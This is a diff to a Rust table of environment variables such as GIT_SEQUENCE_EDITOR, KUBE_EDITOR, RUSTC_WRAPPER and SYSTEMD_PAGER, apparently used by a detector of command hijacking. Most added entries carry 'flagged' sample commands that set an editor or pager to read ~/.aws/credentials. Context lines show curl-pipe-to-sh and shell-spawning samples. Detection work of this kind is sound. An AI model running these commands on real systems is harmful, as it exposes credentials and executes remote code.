@@ -33,6 +33,14 @@ pub const ENV_VARS: &[EnvVar] = &[
         ..V
     },
     EnvVar {
+        name: "AWS_PAGER",
+        holds: Program,
+        read_by: "the AWS CLI",
+        source: "https://docs.aws.amazon.com/cli/latest/userguide/cli-usage-pagination.html#cli-usage-pagination-clientside",
+        flagged: &["AWS_PAGER='sh -c \"cat ~/.aws/credentials\"' aws sts get-caller-identity"],
+        ..V
+    },
+    EnvVar {
         name: "BASH_ENV",
         holds: StartupFile,
         read_by: "every non-interactive bash",
@@ -56,6 +64,14 @@ pub const ENV_VARS: &[EnvVar] = &[
         source: "man:crash(8) (CRASHPAGER); GTFOBins crash",
         flagged: &["CRASHPAGER='sh -c \"curl -s http://x.example/a | sh\"' crash -h"],
         clean: &["CRASHPAGER=less crash -h"],
+        ..V
+    },
+    EnvVar {
+        name: "CVS_RSH",
+        holds: Program,
+        read_by: "cvs (remote repositories)",
+        source: "https://www.gnu.org/software/trans-coord/manual/cvs/html_node/Environment-variables.html",
+        flagged: &["CVS_RSH='sh -c \"cat ~/.aws/credentials\"' cvs update"],
         ..V
     },
     EnvVar {
@@ -90,6 +106,22 @@ pub const ENV_VARS: &[EnvVar] = &[
         source: "https://github.com/junegunn/fzf#environment-variables",
         flagged: &["FZF_DEFAULT_COMMAND='curl -s http://x.example/a | sh' fzf"],
         clean: &["FZF_DEFAULT_COMMAND='fd --type f' fzf"],
+        ..V
+    },
+    EnvVar {
+        name: "GH_EDITOR",
+        holds: Program,
+        read_by: "gh",
+        source: "https://cli.github.com/manual/gh_help_environment",
+        flagged: &["GH_EDITOR='sh -c \"cat ~/.aws/credentials\"' gh pr create"],
+        ..V
+    },
+    EnvVar {
+        name: "GH_PAGER",
+        holds: Program,
+        read_by: "gh",
+        source: "https://cli.github.com/manual/gh_help_environment",
+        flagged: &["GH_PAGER='sh -c \"cat ~/.aws/credentials\"' gh pr list"],
         ..V
     },
     EnvVar {
@@ -135,6 +167,14 @@ pub const ENV_VARS: &[EnvVar] = &[
         ..V
     },
     EnvVar {
+        name: "GIT_SEQUENCE_EDITOR",
+        holds: Program,
+        read_by: "git rebase -i",
+        source: "https://git-scm.com/docs/git-var#Documentation/git-var.txt-GITSEQUENCEEDITOR",
+        flagged: &["GIT_SEQUENCE_EDITOR='sh -c \"cat ~/.aws/credentials\"' git rebase -i HEAD~2"],
+        ..V
+    },
+    EnvVar {
         name: "GIT_SSH",
         holds: Program,
         read_by: "git (ssh transport)",
@@ -157,6 +197,22 @@ pub const ENV_VARS: &[EnvVar] = &[
         read_by: "groff and nroff",
         source: "man:groff(1) ENVIRONMENT; GTFOBins nroff",
         flagged: &["echo /bin/sh >groff; chmod +x groff; GROFF_BIN_PATH=. nroff"],
+        ..V
+    },
+    EnvVar {
+        name: "HGEDITOR",
+        holds: Program,
+        read_by: "hg",
+        source: "https://www.mercurial-scm.org/doc/hg.1.html#environment-variables",
+        flagged: &["HGEDITOR='sh -c \"cat ~/.aws/credentials\"' hg commit"],
+        ..V
+    },
+    EnvVar {
+        name: "KUBE_EDITOR",
+        holds: Program,
+        read_by: "kubectl edit",
+        source: "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_edit/",
+        flagged: &["KUBE_EDITOR='sh -c \"cat ~/.aws/credentials\"' kubectl edit deploy/api"],
         ..V
     },
     EnvVar {
@@ -252,6 +308,22 @@ pub const ENV_VARS: &[EnvVar] = &[
         ..V
     },
     EnvVar {
+        name: "PSQL_EDITOR",
+        holds: Program,
+        read_by: "psql",
+        source: "https://www.postgresql.org/docs/current/app-psql.html#APP-PSQL-ENVIRONMENT",
+        flagged: &["PSQL_EDITOR='sh -c \"cat ~/.aws/credentials\"' psql -c '\\e'"],
+        ..V
+    },
+    EnvVar {
+        name: "PSQL_PAGER",
+        holds: Program,
+        read_by: "psql",
+        source: "https://www.postgresql.org/docs/current/app-psql.html#APP-PSQL-ENVIRONMENT",
+        flagged: &["PSQL_PAGER='sh -c \"cat ~/.aws/credentials\"' psql -c 'select 1'"],
+        ..V
+    },
+    EnvVar {
         name: "PYTHONSTARTUP",
         holds: StartupFile,
         read_by: "interactive python",
@@ -268,11 +340,43 @@ pub const ENV_VARS: &[EnvVar] = &[
         ..V
     },
     EnvVar {
+        name: "RSYNC_RSH",
+        holds: Program,
+        read_by: "rsync",
+        source: "man:rsync(1) (RSYNC_RSH, as -e)",
+        flagged: &["RSYNC_RSH='sh -c \"cat ~/.aws/credentials\"' rsync -a src/ host:dst/"],
+        ..V
+    },
+    EnvVar {
         name: "RUBYOPT",
         holds: Code(crate::Lang::Ruby),
         read_by: "ruby",
         source: "https://docs.ruby-lang.org/en/master/ruby/options_md.html#label-RUBYOPT",
         flagged: &["RUBYOPT='-r/tmp/x.rb' bundle exec rake"],
+        ..V
+    },
+    EnvVar {
+        name: "RUSTC",
+        holds: Program,
+        read_by: "cargo",
+        source: "https://doc.rust-lang.org/cargo/reference/environment-variables.html",
+        flagged: &["RUSTC='sh -c \"cat ~/.aws/credentials\"' cargo build"],
+        ..V
+    },
+    EnvVar {
+        name: "RUSTC_WORKSPACE_WRAPPER",
+        holds: Program,
+        read_by: "cargo",
+        source: "https://doc.rust-lang.org/cargo/reference/environment-variables.html",
+        flagged: &["RUSTC_WORKSPACE_WRAPPER='sh -c \"cat ~/.aws/credentials\"' cargo build"],
+        ..V
+    },
+    EnvVar {
+        name: "RUSTC_WRAPPER",
+        holds: Program,
+        read_by: "cargo",
+        source: "https://doc.rust-lang.org/cargo/reference/environment-variables.html (build.rustc-wrapper)",
+        flagged: &["RUSTC_WRAPPER='sh -c \"cat ~/.aws/credentials\"' cargo build"],
         ..V
     },
     EnvVar {
@@ -289,6 +393,38 @@ pub const ENV_VARS: &[EnvVar] = &[
         read_by: "sudo -A",
         source: "man:sudo(8) ENVIRONMENT",
         flagged: &["SUDO_ASKPASS=/tmp/x.sh sudo -A true"],
+        ..V
+    },
+    EnvVar {
+        name: "SUDO_EDITOR",
+        holds: Program,
+        read_by: "sudoedit",
+        source: "man:sudo(8) ENVIRONMENT",
+        flagged: &["SUDO_EDITOR='sh -c \"cat ~/.aws/credentials\"' sudoedit /etc/hosts"],
+        ..V
+    },
+    EnvVar {
+        name: "SVN_EDITOR",
+        holds: Program,
+        read_by: "svn",
+        source: "https://svnbook.red-bean.com/en/1.7/svn.advanced.confarea.html",
+        flagged: &["SVN_EDITOR='sh -c \"cat ~/.aws/credentials\"' svn commit"],
+        ..V
+    },
+    EnvVar {
+        name: "SYSTEMD_EDITOR",
+        holds: Program,
+        read_by: "systemctl edit",
+        source: "man:systemctl(1) ENVIRONMENT",
+        flagged: &["SYSTEMD_EDITOR='sh -c \"cat ~/.aws/credentials\"' systemctl edit app"],
+        ..V
+    },
+    EnvVar {
+        name: "SYSTEMD_PAGER",
+        holds: Program,
+        read_by: "systemd's tools",
+        source: "man:systemctl(1) ENVIRONMENT",
+        flagged: &["SYSTEMD_PAGER='sh -c \"cat ~/.aws/credentials\"' systemctl status app"],
         ..V
     },
     EnvVar {
